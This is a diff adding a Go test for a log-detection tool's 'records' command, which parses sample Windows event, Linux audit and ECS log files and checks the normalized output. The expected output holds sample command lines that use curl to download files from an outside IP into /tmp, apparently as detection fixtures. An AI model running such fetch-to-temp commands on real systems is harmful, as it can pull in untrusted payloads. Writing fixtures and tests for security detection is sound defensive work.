@@ -172,3 +172,31 @@ func TestDetectLevel(t *testing.T) {
 		t.Errorf("%d findings of high rules, want 6", n)
 	}
 }
+
+func TestRecords(t *testing.T) {
+	root := newRoot()
+	var out, errs bytes.Buffer
+	root.SetOut(&out)
+	root.SetErr(&errs)
+	code := execute(t.Context(), root, []string{"records", filepath.Join(detectInputs, "sample.evtx.gz"), filepath.Join(detectInputs, "audit.log"), filepath.Join(detectInputs, "ecs.jsonl")})
+	if code != 0 || errs.Len() > 0 {
+		t.Fatalf("code %d, %s", code, errs.String())
+	}
+	for _, want := range []string{
+		`{"Channel":"Security","Computer":"h1","EventID":"4624",`, `"_input":"` + filepath.Join(detectInputs, "sample.evtx.gz") + `","_time":"2026-11-21T12:00:00.1234567Z"}`,
+		`"_derived":true,"_input":"` + filepath.Join(detectInputs, "audit.log") + `","_line":0,`, `"CommandLine":"curl -o /tmp/a b.sh http://198.51.100.7/x"`,
+		`"process":{"command_line":"curl -o /tmp/x http://198.51.100.7/"`,
+	} {
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("no %s in\n%s", want, out.String())
+		}
+	}
+	if n := strings.Count(out.String(), "\n"); n != 3+13+3 {
+		t.Errorf("%d lines, want 19", n)
+	}
+	root = newRoot()
+	root.SetErr(&errs)
+	if code := execute(t.Context(), root, []string{"records", filepath.Join(detectInputs, "other.png")}); code != 2 || !strings.Contains(errs.String(), "not a format that is read here") {
+		t.Errorf("code %d: %s", code, errs.String())
+	}
+}
